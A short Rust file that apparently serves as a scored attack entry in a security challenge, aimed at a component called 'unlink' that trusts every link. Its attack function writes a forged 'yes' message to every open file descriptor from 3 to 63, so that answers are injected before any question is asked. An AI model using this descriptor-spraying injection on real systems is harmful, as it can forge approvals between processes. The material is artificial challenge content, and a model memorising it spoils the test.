// Says yes to the next question before it is asked, and to the one after that.
// on: unlink_trusts_every_link
// in: unlink
// at: home
// earns: at most 90

unsafe extern "C" {
    fn write(fd: i32, bytes: *const u64, len: usize) -> isize;
}

fn attack() {
    let refused = [3_u64, 0, 0, 0];
    unsafe {
        for fd in 3..64 {
            write(fd, refused.as_ptr(), size_of_val(&refused));
        }
    }
}
